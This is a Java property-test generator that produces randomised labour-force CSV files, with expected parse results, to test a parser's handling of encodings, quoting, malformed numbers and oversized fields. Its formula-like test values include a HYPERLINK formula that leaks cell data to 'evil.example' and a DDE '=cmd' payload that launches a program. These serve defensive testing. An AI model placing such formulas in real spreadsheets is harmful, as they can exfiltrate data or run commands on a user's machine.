package ma.observatory.csv;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.Charset;
import java.nio.charset.CharsetEncoder;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomDistribution;
import net.jqwik.api.Tuple;

/**
 * Random {@code employment/labour_force.csv} files for the property tests, each rendered with what
 * reading every line of it must give: its line number as an editor shows it, kept or rejected, and
 * for a kept line the values. Files vary in separator, encoding (UTF-8, with or without BOM,
 * Windows-1252), line endings (mixed too), header order, case and padding, quoting, blank lines of
 * every kind, trailing separators, rows too short or too long, NUL bytes, formula-looking text,
 * numbers as French Excel and hostile hands write them, and fields around and far over the limit.
 */
final class GeneratedCsv {

    static final String FILE = "employment/labour_force.csv";
    static final Charset CP1252 = CsvDialect.WINDOWS_1252;

    enum Encoding { UTF8, UTF8_BOM, WINDOWS_1252 }

    enum Eol {
        LF("\n"), CRLF("\r\n"), CR("\r");

        final String text;

        Eol(String text) {
            this.text = text;
        }
    }

    enum Width { SAME, MISSING_LAST, EXTRA_VALUE, EXTRA_EMPTY }

    enum Style {
        PLAIN, GROUPED_SPACE, GROUPED_NBSP, GROUPED_NARROW_NBSP, PLUS, PADDED, LEADING_ZEROS, NEGATIVE_ZERO, EMPTY,
        DECIMAL_COMMA, HOSTILE
    }

    enum RuleBreak { NONE, EMPLOYED_ABOVE_LABOUR_FORCE, LABOUR_FORCE_ABOVE_POPULATION, UNEMPLOYED_ABOVE_LABOUR_FORCE }

    /** Numbers no reading may accept: each must reject its row. */
    static final List<String> HOSTILE_NUMBERS = List.of("1e400", "1E3", "NaN", "Infinity", "-Infinity", "-5", "-0.5",
            "=1+1", "+-1", "0x1F", "9".repeat(400), "12abc", "\u0000", "1\u00002", "@SUM(A1)", "1.234,5", "1,234.5",
            "1 23", "\u0661\u0662", "12 %", "€12", "1..2", ".5", "5.", "1 234 5");

    /** Text that a spreadsheet would run as a formula, or that starts like one. */
    static final List<String> FORMULA_LIKE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"HCP\")",
            "-Ambiguous", "+212 600 000", "@SUM(A1:A9)", "=1+1", "\t=cmd|' /C calc'!A0", "=2+5;", "-2+3,1");

    private static final String TEXT_CHARS = "abcXYZ019 ,;\"\n\r\t\u0000éèçôÉ€’–\u00A0\u202F=+-@'";

    record Code(String text, boolean valid) {
    }

    record Count(int halves, Style style, String hostile) {

        double value() {
            return halves / 2.0;
        }

        /** The text in a file of the given dialect, whether it must be accepted, and as what. */
        Value render(boolean semicolon, boolean windows1252) {
            long whole = halves / 2;
            boolean half = halves % 2 == 1;
            String dec = half ? (semicolon ? ",5" : ".5") : "";
            return switch (style) {
                case PLAIN -> new Value(whole + dec, true, value());
                case GROUPED_SPACE -> new Value(group(whole, " ") + dec, true, value());
                case GROUPED_NBSP -> new Value(group(whole, "\u00A0") + dec, true, value());
                case GROUPED_NARROW_NBSP -> new Value(group(whole, windows1252 ? "\u00A0" : "\u202F") + dec, true, value());
                case PLUS -> new Value("+" + whole + dec, true, value());
                case PADDED -> new Value(" " + whole + dec + "  ", true, value());
                case LEADING_ZEROS -> new Value("00" + whole + dec, true, value());
                case NEGATIVE_ZERO -> halves == 0 ? new Value("-0", true, 0.0) : new Value(whole + dec, true, value());
                case EMPTY -> new Value("", true, null);
                case DECIMAL_COMMA -> new Value(whole + (half ? ",5" : ",0"), semicolon, value());
                case HOSTILE -> new Value(hostile, false, null);
            };
        }

        private static String group(long whole, String separator) {
            String digits = Long.toString(whole);
            StringBuilder b = new StringBuilder();
            for (int i = 0; i < digits.length(); i++) {
                if (i > 0 && (digits.length() - i) % 3 == 0) {
                    b.append(separator);
                }
                b.append(digits.charAt(i));
            }
            return b.toString();
        }
    }

    record Value(String text, boolean valid, Double number) {
    }

    record Row(Code period, Code geo, Code area, Code sex, Code ageGroup, List<Count> counts, RuleBreak ruleBreak,
               Source source, Width width, int quote, Eol eol) {

        /** Whether the cell at this position is quoted even when it need not be (about one in four). */
        boolean quoted(int position) {
            return (quote >>> (2 * (position % 16)) & 3) == 0;
        }
    }

    /** A source text; around the limit or far over it, it is sized when the file's limit is known. */
    record Source(String text, int kind, int delta) {

        String resolve(int limit) {
            return switch (kind) {
                case 0 -> text;
                case 1 -> repeatTo(text, limit + delta);
                default -> repeatTo(text, Math.min(3 * limit, limit + 5_000));
            };
        }
    }

    /** A line of the file: a row, or a blank line (empty, spaces, separators only...). */
    record Line(Row row, String blank, Eol eol) {
    }

    record HeaderCell(String column, int letterCase, int padLeft, int padRight, boolean quoted) {

        static HeaderCell of(String column, int bits) {
            return new HeaderCell(column, (bits & 3) % 3, (bits >>> 2 & 3) % 3, (bits >>> 4 & 3) % 3, (bits >>> 6 & 3) == 0);
        }
    }

    record Spec(char separator, Encoding encoding, List<HeaderCell> header, boolean trailingSeparator,
                List<Line> lines, boolean finalEol, int maxFieldChars, Eol headerEol) {
    }

    /** What reading one data line must give. */
    record Expected(long line, boolean kept, String tooLong, String source, String geo, Double[] counts,
                    long byteStart, long byteContentEnd) {
    }

    record Rendered(Spec spec, byte[] bytes, Charset readAs, List<Expected> rows) {
    }

    // ---------------------------------------------------------------- arbitraries

    static Arbitrary<Spec> specs() {
        Arbitrary<Integer> limits = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just(CsvFile.DEFAULT_MAX_FIELD_CHARS)),
                Tuple.of(2, Arbitraries.just(24)),
                Tuple.of(2, Arbitraries.just(100)),
                Tuple.of(1, Arbitraries.integers().between(20, 2000)));
        return Combinators.combine(
                Arbitraries.of(',', ';'),
                Arbitraries.of(Encoding.class),
                header(),
                Arbitraries.integers().between(0, 9).map(i -> i == 0),
                lines().list().ofMaxSize(25).withSizeDistribution(RandomDistribution.uniform()),
                Arbitraries.integers().between(0, 4).map(i -> i > 0),
                limits,
                eols()
        ).as(Spec::new);
    }

    private static Arbitrary<Eol> eols() {
        return Arbitraries.frequency(Tuple.of(4, Eol.LF), Tuple.of(4, Eol.CRLF), Tuple.of(1, Eol.CR));
    }

    private static Arbitrary<List<HeaderCell>> header() {
        List<String> required = List.of("period", "geo", "area", "sex", "age_group", "population", "labour_force",
                "employed", "unemployed");
        Arbitrary<List<String>> columns = Combinators.combine(Arbitraries.of(true, true, true, false),
                Arbitraries.of(true, true, true, false)).as((under, source) -> {
                    List<String> names = new ArrayList<>(required);
                    if (under) {
                        names.add("underemployed");
                    }
                    if (source) {
                        names.add("source");
                    }
                    return names;
                });
        Arbitrary<long[]> bits = Arbitraries.longs().array(long[].class).ofSize(2);
        return Combinators.combine(columns, Arbitraries.randoms(), bits).as((names, random, b) -> {
            List<String> shuffled = new ArrayList<>(names);
            java.util.Collections.shuffle(shuffled, random);
            List<HeaderCell> cells = new ArrayList<>();
            for (int i = 0; i < shuffled.size(); i++) {
                cells.add(HeaderCell.of(shuffled.get(i), (int) (b[i / 8] >>> (8 * (i % 8)))));
            }
            return cells;
        });
    }

    private static Arbitrary<Line> lines() {
        Arbitrary<Line> blank = Combinators.combine(
                Arbitraries.of("", " ", "\t", "   ", "SEPS", "SEP SEP", "\"\"", "\"\"SEP  "), eols())
                .as((text, eol) -> new Line(null, text, eol));
        Arbitrary<Line> data = rows().map(row -> new Line(row, null, row.eol()));
        return Arbitraries.frequencyOf(Tuple.of(8, data), Tuple.of(2, blank));
    }

    private static Arbitrary<Row> rows() {
        Arbitrary<Code> period = codes(List.of("2024", "2024-Q1", "2023-12", "2024-q2", " 2023 "),
                List.of("2024-13", "24", "=1+1", "", "2024-Q5", "\uFF12\uFF10\uFF12\uFF14"));
        // a place code in another case is the reference's ("ma" is MA), as the files' other codes
        Arbitrary<Code> geo = codes(List.of("MA", "MA", " MA ", "ma"), List.of("XX", "", "=HYPERLINK(\"http://x.example\")"));
        Arbitrary<Code> area = codes(List.of("total", "urban", "RURAL"), List.of("town", ""));
        Arbitrary<Code> sex = codes(List.of("total", "male", "Female"), List.of("x", ""));
        Arbitrary<Code> age = codes(List.of("15+", "15-24", "45+", " 25-34 "), List.of("24-15", "abc", "", "15 - 24"));
        Arbitrary<List<Count>> counts = counts();
        Arbitrary<RuleBreak> ruleBreak = Arbitraries.frequency(Tuple.of(12, RuleBreak.NONE),
                Tuple.of(1, RuleBreak.EMPLOYED_ABOVE_LABOUR_FORCE), Tuple.of(1, RuleBreak.LABOUR_FORCE_ABOVE_POPULATION),
                Tuple.of(1, RuleBreak.UNEMPLOYED_ABOVE_LABOUR_FORCE));
        Arbitrary<Width> width = Arbitraries.frequency(Tuple.of(12, Width.SAME), Tuple.of(1, Width.MISSING_LAST),
                Tuple.of(1, Width.EXTRA_VALUE), Tuple.of(1, Width.EXTRA_EMPTY));
        Arbitrary<Integer> quote = Arbitraries.integers();
        Arbitrary<Object[]> parts = Combinators.combine(period, geo, area, sex, age, counts, ruleBreak, source())
                .as((p, g, a, s, ag, c, rb, src) -> new Object[] {p, g, a, s, ag, c, rb, src});
        return Combinators.combine(parts, width, quote, eols()).as((o, w, q, eol) -> new Row(
                (Code) o[0], (Code) o[1], (Code) o[2], (Code) o[3], (Code) o[4], castCounts(o[5]), (RuleBreak) o[6],
                (Source) o[7], w, q, eol));
    }

    @SuppressWarnings("unchecked")
    private static List<Count> castCounts(Object o) {
        return (List<Count>) o;
    }

    private static Arbitrary<Code> codes(List<String> valid, List<String> invalid) {
        return Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(valid).map(t -> new Code(t, true))),
                Tuple.of(1, Arbitraries.of(invalid).map(t -> new Code(t, false))));
    }

    /** Population, labour force, employed, unemployed and underemployed (consistent, in halves). */
    private static Arbitrary<List<Count>> counts() {
        Arbitrary<int[]> halves = Arbitraries.integers().between(0, 400_000).array(int[].class).ofSize(5).map(r -> {
            int p = r[0];
            int l = r[1] % (p + 1);
            int e = r[2] % (l + 1);
            int u = r[3] % (l - e + 1);
            return new int[] {p, l, e, u, r[4] % (e + 1)}; // underemployed are some of the employed
        });
        Arbitrary<Style> style = Arbitraries.frequency(Tuple.of(10, Style.PLAIN), Tuple.of(1, Style.GROUPED_SPACE),
                Tuple.of(1, Style.GROUPED_NBSP), Tuple.of(1, Style.GROUPED_NARROW_NBSP), Tuple.of(1, Style.PLUS),
                Tuple.of(1, Style.PADDED), Tuple.of(1, Style.LEADING_ZEROS), Tuple.of(1, Style.NEGATIVE_ZERO),
                Tuple.of(1, Style.EMPTY), Tuple.of(1, Style.DECIMAL_COMMA), Tuple.of(1, Style.HOSTILE));
        Arbitrary<List<Style>> styles = style.list().ofSize(5);
        Arbitrary<List<String>> hostile = Arbitraries.of(HOSTILE_NUMBERS).list().ofSize(5);
        return Combinators.combine(halves, styles, hostile).as((h, s, x) -> {
            List<Count> list = new ArrayList<>();
            for (int i = 0; i < 5; i++) {
                list.add(new Count(h[i], s.get(i), x.get(i)));
            }
            return list;
        });
    }

    private static Arbitrary<Source> source() {
        Arbitrary<String> text = Arbitraries.strings().withChars(TEXT_CHARS).ofMaxLength(30);
        Arbitrary<String> words = Arbitraries.of("HCP ENE 2024", "Enquête nationale sur l'emploi", "Fès-Meknès",
                "Office des changes, \"provisoire\"", "ligne 1\nligne 2", "");
        return Arbitraries.frequencyOf(
                Tuple.of(10, text.map(t -> new Source(t, 0, 0))),
                Tuple.of(4, words.map(t -> new Source(t, 0, 0))),
                Tuple.of(2, Arbitraries.of(FORMULA_LIKE).map(t -> new Source(t, 0, 0))),
                Tuple.of(1, Combinators.combine(text, Arbitraries.integers().between(-1, 1)).as((t, d) -> new Source(t, 1, d))),
                Tuple.of(1, text.map(t -> new Source(t, 2, 0))));
    }

    private static String repeatTo(String seed, int length) {
        String s = seed.isEmpty() ? "x" : seed;
        StringBuilder b = new StringBuilder(length);
        while (b.length() < length) {
            b.append(s);
        }
        b.setLength(length);
        if (Character.isHighSurrogate(b.charAt(length - 1))) {
            b.setCharAt(length - 1, 'x');
        }
        return b.toString();
    }

    // ---------------------------------------------------------------- rendering and oracle

    static Rendered render(Spec spec) {
        boolean semicolon = spec.separator() == ';';
        boolean cp1252 = spec.encoding() == Encoding.WINDOWS_1252;
        Charset charset = cp1252 ? CP1252 : StandardCharsets.UTF_8;
        String sep = String.valueOf(spec.separator());
        Writer w = new Writer(charset, spec.encoding() == Encoding.UTF8_BOM);

        // header
        List<String> columns = new ArrayList<>();
        List<String> headerCells = new ArrayList<>();
        for (HeaderCell h : spec.header()) {
            columns.add(h.column());
            String name = switch (h.letterCase()) {
                case 0 -> h.column();
                case 1 -> h.column().toUpperCase(Locale.ROOT);
                default -> Character.toUpperCase(h.column().charAt(0)) + h.column().substring(1);
            };
            String padded = " ".repeat(h.padLeft()) + name + " ".repeat(h.padRight());
            headerCells.add(h.quoted() ? quote(padded) : padded);
        }
        w.append(String.join(sep, headerCells) + (spec.trailingSeparator() ? sep : ""));
        boolean lastLine = spec.lines().isEmpty();
        if (!lastLine || spec.finalEol()) {
            w.append(spec.headerEol().text);
        }

        List<PendingRow> pending = new ArrayList<>();
        for (int i = 0; i < spec.lines().size(); i++) {
            Line line = spec.lines().get(i);
            boolean last = i == spec.lines().size() - 1;
            String text;
            List<String> cells = null;
            if (line.row() == null) {
                text = line.blank().replace("SEPS", sep.repeat(columns.size() - 1)).replace("SEP", sep);
            } else {
                cells = cells(line.row(), columns, semicolon, cp1252, charset, spec.maxFieldChars());
                List<String> rendered = new ArrayList<>();
                for (int c = 0; c < cells.size(); c++) {
                    String v = cells.get(c);
                    boolean needs = v.indexOf(spec.separator()) >= 0 || v.indexOf('"') == 0 || v.indexOf('\n') >= 0
                            || v.indexOf('\r') >= 0;
                    rendered.add(needs || line.row().quoted(c) ? quote(v) : v);
                }
                text = String.join(sep, rendered);
            }
            text += spec.trailingSeparator() ? sep : "";
            long start = w.bytes();
            long lineNumber = w.lineBreaks() + 1;
            w.append(text);
            long contentEnd = w.bytes();
            if (!last || spec.finalEol()) {
                w.append(line.eol().text);
            }
            if (cells != null) {
                pending.add(new PendingRow(line.row(), cells, lineNumber, start, contentEnd));
            }
        }

        byte[] bytes = w.toByteArray();
        Charset readAs = spec.encoding() == Encoding.WINDOWS_1252 && !readsAsUtf8(bytes) ? CP1252 : StandardCharsets.UTF_8;
        List<Expected> expected = new ArrayList<>();
        Set<String> keys = new HashSet<>();
        for (PendingRow p : pending) {
            List<String> cells = new ArrayList<>();
            for (String c : p.cells()) {
                cells.add(readAs.equals(charset) ? c : new String(c.getBytes(charset), readAs));
            }
            Expected e = expect(p, cells, columns, spec, semicolon, cp1252, keys);
            if (e != null) {
                expected.add(e);
            }
        }
        return new Rendered(spec, bytes, readAs, expected);
    }

    private record PendingRow(Row row, List<String> cells, long line, long start, long contentEnd) {
    }

    /** The cells of a row in the order of the header, with the width mutation applied. */
    private static List<String> cells(Row row, List<String> columns, boolean semicolon, boolean cp1252, Charset charset,
                                      int limit) {
        List<String> cells = new ArrayList<>();
        for (String column : columns) {
            cells.add(encodable(cell(row, column, semicolon, cp1252, limit).text(), charset));
        }
        switch (row.width()) {
            case MISSING_LAST -> cells.remove(cells.size() - 1);
            case EXTRA_VALUE -> cells.add("extra");
            case EXTRA_EMPTY -> cells.add("");
            default -> {
            }
        }
        return cells;
    }

    private static final List<String> COUNT_COLUMNS =
            List.of("population", "labour_force", "employed", "unemployed", "underemployed");

    private static Value cell(Row row, String column, boolean semicolon, boolean cp1252, int limit) {
        return switch (column) {
            case "period" -> new Value(row.period().text(), row.period().valid(), null);
            case "geo" -> new Value(row.geo().text(), row.geo().valid(), null);
            case "area" -> new Value(row.area().text(), row.area().valid(), null);
            case "sex" -> new Value(row.sex().text(), row.sex().valid(), null);
            case "age_group" -> new Value(row.ageGroup().text(), row.ageGroup().valid(), null);
            case "source" -> new Value(row.source().resolve(limit), true, null);
            default -> counts(row).get(COUNT_COLUMNS.indexOf(column)).render(semicolon, cp1252);
        };
    }

    /** The counts with the row's rule break applied (one half more than the bound). */
    private static List<Count> counts(Row row) {
        List<Count> c = new ArrayList<>(row.counts());
        switch (row.ruleBreak()) {
            case EMPLOYED_ABOVE_LABOUR_FORCE -> c.set(2, new Count(c.get(1).halves() + 1, c.get(2).style(), c.get(2).hostile()));
            case LABOUR_FORCE_ABOVE_POPULATION -> c.set(1, new Count(c.get(0).halves() + 1, c.get(1).style(), c.get(1).hostile()));
            case UNEMPLOYED_ABOVE_LABOUR_FORCE -> c.set(3, new Count(c.get(1).halves() + 1, c.get(3).style(), c.get(3).hostile()));
            default -> {
            }
        }
        return c;
    }

    private static Expected expect(PendingRow p, List<String> cells, List<String> columns, Spec spec, boolean semicolon,
                                   boolean cp1252, Set<String> keys) {
        List<String> fields = new ArrayList<>(cells);
        if (spec.trailingSeparator()) {
            fields.add("");
        }
        if (fields.stream().allMatch(String::isBlank)) {
            return null; // a blank line: not data
        }
        long recordChars = fields.size() - 1L;
        for (String c : fields) {
            recordChars += c.length();
        }
        int limit = spec.maxFieldChars();
        for (String c : fields) {
            if (c.length() > limit) {
                return new Expected(p.line(), false, "too long: " + c.length() + " characters", null, null, null,
                        p.start(), p.contentEnd());
            }
        }
        if (recordChars > (long) limit * CsvFile.RECORD_TO_FIELD_RATIO) {
            return new Expected(p.line(), false, "the line is too long: " + recordChars, null, null, null,
                    p.start(), p.contentEnd());
        }
        Row row = p.row();
        int width = columns.size();
        boolean ok = fields.size() >= width;
        for (int i = width; i < fields.size(); i++) {
            ok &= fields.get(i).isBlank();
        }
        Double[] numbers = new Double[5];
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < width; i++) {
            String column = columns.get(i);
            Value v;
            if (i >= fields.size()) {
                v = new Value("", false, null); // the row is short: rejected for its width anyway
            } else if (row.width() == Width.MISSING_LAST && i == width - 1) {
                // the trailing separator stands in for the missing value: the cell reads as empty
                v = new Value("", COUNT_COLUMNS.contains(column) || column.equals("source"), null);
            } else {
                v = cell(row, column, semicolon, cp1252, limit);
            }
            texts.add(v.text());
            ok &= v.valid();
            int k = COUNT_COLUMNS.indexOf(column);
            if (k >= 0) {
                numbers[k] = v.number();
            }
        }
        Double pop = numbers[0];
        Double lf = numbers[1];
        Double emp = numbers[2];
        Double unemp = numbers[3];
        ok &= !(emp != null && lf != null && emp > lf);
        ok &= !(lf != null && pop != null && lf > pop);
        ok &= !(unemp != null && lf != null && unemp > lf);
        // an empty labour force is employed + unemployed, bounded by the population as a given one
        ok &= !(lf == null && pop != null && (emp != null || unemp != null)
                && (emp == null ? 0 : emp) + (unemp == null ? 0 : unemp) > pop);
        Double under = numbers[4];
        ok &= !(under != null && emp != null && under > emp);
        if (ok) {
            StringBuilder key = new StringBuilder();
            for (String column : List.of("period", "geo", "area", "sex", "age_group")) {
                key.append(texts.get(columns.indexOf(column)).strip().toLowerCase(Locale.ROOT)).append('\u001F');
            }
            ok = keys.add(key.toString());
        }
        int s = columns.indexOf("source");
        String source = s < 0 || s >= fields.size() ? "" : fields.get(s).strip();
        return new Expected(p.line(), ok, null, source, row.geo().text().strip().toUpperCase(java.util.Locale.ROOT), numbers, p.start(), p.contentEnd());
    }

    /** The contract's rule: UTF-8 if the bytes are (a character cut at the very end aside), else Windows-1252. */
    static boolean readsAsUtf8(byte[] bytes) {
        if (validUtf8(bytes, bytes.length)) {
            return true;
        }
        int tail = CsvDialect.incompleteTail(bytes, bytes.length);
        boolean nonAscii = false;
        for (int i = 0; i < bytes.length - tail; i++) {
            nonAscii |= bytes[i] < 0;
        }
        return tail > 0 && nonAscii && validUtf8(bytes, bytes.length - tail);
    }

    private static boolean validUtf8(byte[] bytes, int length) {
        try {
            StandardCharsets.UTF_8.newDecoder().onMalformedInput(CodingErrorAction.REPORT)
                    .onUnmappableCharacter(CodingErrorAction.REPORT).decode(ByteBuffer.wrap(bytes, 0, length));
            return true;
        } catch (CharacterCodingException e) {
            return false;
        }
    }

    static String quote(String v) {
        return "\"" + v.replace("\"", "\"\"") + "\"";
    }

    private static String encodable(String text, Charset charset) {
        if (charset.equals(StandardCharsets.UTF_8)) {
            return text;
        }
        CharsetEncoder encoder = charset.newEncoder();
        StringBuilder b = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            b.append(encoder.canEncode(c) ? c : '?');
        }
        return b.toString();
    }

    /** Appends text in a charset, counting bytes and line breaks as an editor does (CR, LF, CRLF). */
    private static final class Writer {
        private final Charset charset;
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private long lineBreaks;
        private char last;

        Writer(Charset charset, boolean bom) {
            this.charset = charset;
            if (bom) {
                out.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
            }
        }

        void append(String s) {
            out.writeBytes(s.getBytes(charset));
            for (int i = 0; i < s.length(); i++) {
                char c = s.charAt(i);
                if (c == '\r' || (c == '\n' && last != '\r')) {
                    lineBreaks++;
                }
                last = c;
            }
        }

        long bytes() {
            return out.size();
        }

        long lineBreaks() {
            return lineBreaks;
        }

        byte[] toByteArray() {
            return out.toByteArray();
        }
    }

    private GeneratedCsv() {
    }
}
